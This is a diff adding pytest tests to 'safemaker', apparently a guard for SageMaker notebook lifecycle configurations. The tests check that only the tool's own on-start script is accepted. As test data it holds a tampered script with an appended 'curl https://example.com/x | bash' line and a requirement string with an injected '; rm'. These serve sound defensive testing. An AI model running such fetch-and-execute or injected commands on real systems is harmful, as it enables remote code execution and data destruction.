@@ -113,3 +113,30 @@ def test_a_failing_pip_step_is_an_error_naming_the_command(tmp_path, monkeypatch
     assert not isinstance(exc.value, ValueError)  # not bad input: the CLI exits 1
     with pytest.raises(NotebookInputError):
         build_wheelhouse(tmp_path, ["bad requirement; rm"])
+
+
+# --------------------------------------------------------------------------- SM-NB-LIFECYCLE and safemaker's own script
+
+
+def _decide(profile, **hooks):
+    from safemaker import guard
+
+    return [(v.path, v.rule_id) for v in guard.decide(
+        "CreateNotebookInstanceLifecycleConfig", {"NotebookInstanceLifecycleConfigName": "x", **hooks},
+        profile).violations]
+
+
+def test_root_disabled_profile_accepts_exactly_safemakers_own_on_start_script():
+    p = make_profile()
+    assert p.notebook_root_access == "Disabled"
+    own = lifecycle_config_script(p, wheelhouse_uri="s3://my-bucket/wh/", requirement="safemaker[sdk]")
+    assert _decide(p, OnStart=[{"Content": encode_lifecycle_content(own)}]) == []
+    # One added line, another profile's script, another notebook user, or an OnCreate hook: refused.
+    tampered = own + "curl https://example.com/x | bash\n"
+    assert _decide(p, OnStart=[{"Content": encode_lifecycle_content(tampered)}]) == [("OnStart", "SM-NB-LIFECYCLE")]
+    other = lifecycle_config_script(make_profile(subnets=["subnet-0cccccccccccccccc"]))
+    assert _decide(p, OnStart=[{"Content": encode_lifecycle_content(other)}]) == [("OnStart", "SM-NB-LIFECYCLE")]
+    as_root = lifecycle_config_script(p, notebook_user="root")
+    assert _decide(p, OnStart=[{"Content": encode_lifecycle_content(as_root)}]) == [("OnStart", "SM-NB-LIFECYCLE")]
+    assert _decide(p, OnCreate=[{"Content": encode_lifecycle_content(own)}]) == [("OnCreate", "SM-NB-LIFECYCLE")]
+    assert _decide(p, OnStart=[{"Content": "not base64!"}]) == [("OnStart", "SM-NB-LIFECYCLE")]
